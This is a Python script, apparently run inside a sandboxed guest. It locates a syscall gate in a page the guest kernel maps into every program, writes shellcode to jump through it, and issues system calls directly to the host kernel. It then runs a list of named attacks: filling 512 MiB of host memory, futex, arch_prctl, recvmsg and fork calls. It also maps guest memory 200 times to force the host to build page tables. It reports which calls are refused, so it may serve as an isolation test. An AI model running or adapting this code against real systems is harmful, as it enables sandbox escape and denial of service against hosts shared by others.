# Runs in the guest: calls of the host's kernel through the page that the guest kernel keeps in every program (U6).
# The one argument is that page's address.
import ctypes
import errno
import mmap
import os
import sys

page = int(sys.argv[1], 16)
code = ctypes.string_at(page, 4096)
# The instruction that enters the kernel, with a return behind it.
gate = page + code.index(b"\x0f\x05\xc3")

# rdi points to: number, six arguments, gate.
jump = bytes.fromhex(
    "488b07"    # mov rax, [rdi]
    "488b7710"  # mov rsi, [rdi+16]
    "488b5718"  # mov rdx, [rdi+24]
    "4c8b5720"  # mov r10, [rdi+32]
    "4c8b4728"  # mov r8, [rdi+40]
    "4c8b4f30"  # mov r9, [rdi+48]
    "488b4f38"  # mov rcx, [rdi+56]
    "488b7f08"  # mov rdi, [rdi+8]
    "ffe1"      # jmp rcx
)
memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
memory.write(jump)
call_at = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_void_p)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))


def call(number, *arguments):
    words = (ctypes.c_ulong * 8)(number, *arguments, *[0] * (6 - len(arguments)), gate)
    return call_at(ctypes.addressof(words))


FREE = 0x2000_0000_0000
SIZE = 512 << 20
PRIVATE, SHARED, FIXED, ANONYMOUS, GROWS, HUGE = 2, 1, 0x10, 0x20, 0x100, 0x40000
NONE = 2**64 - 1


def hold():
    """Keeps what was taken until it has been measured, which the end of the input says."""
    sys.stdin.read()


def memory_of(flags):
    def attack():
        result = call(9, FREE, SIZE, 3, flags | FIXED, NONE, 0)
        if 0 <= result:
            # What is touched is the host's memory.
            ctypes.memset(FREE, 1, SIZE)
            print("touched", SIZE >> 20, "MiB of the host's memory", flush=True)
            hold()
        return result
    return attack


ATTACKS = {
    "memory that grows": memory_of(PRIVATE | ANONYMOUS | GROWS),
    "huge pages": memory_of(PRIVATE | ANONYMOUS | HUGE),
    "private memory": memory_of(PRIVATE | ANONYMOUS),
    "shared memory": memory_of(SHARED | ANONYMOUS),
    "a futex with an owner": lambda: call(202, FREE, 6, 0, 0),
    "a futex with many waiters": lambda: call(202, FREE, 4, 0, 0),
    "more registers": lambda: call(158, 0x1023, 18),
    "a message": lambda: call(47, 0, FREE, 0),
    "to close a descriptor": lambda: call(3, 3),
    "to make a process": lambda: call(57),
}

# To show that the gate works: nothing is there, and to unmap it is allowed.
print("the gate:", call(11, FREE, 4096), flush=True)
for name, attack in ATTACKS.items():
    child = os.fork()
    if child == 0:
        result = attack()
        print("refused:" if result == -errno.EPERM else "answered:", name, result, flush=True)
        os._exit(0)
    os.waitpid(child, 0)


# Guest memory again and again: of all of it, the host makes tables of pages each time.
GUEST_MEMORY, READ, POPULATE, TIMES, WHOLE = 3, 1, 0x8000, 200, 64 << 20
mapped_all, done = os.pipe()
if os.fork() == 0:
    places = range(FREE, FREE + 2 * TIMES * WHOLE, 2 * WHOLE)
    mapped = sum(call(9, at, WHOLE, READ, SHARED | FIXED | POPULATE, GUEST_MEMORY, 0) == at for at in places)
    print("mapped:", mapped, flush=True)
    os.close(done)
    hold()
    os._exit(0)
os.close(done)
os.read(mapped_all, 1)
print("the guest goes on", flush=True)
hold()
os.wait()
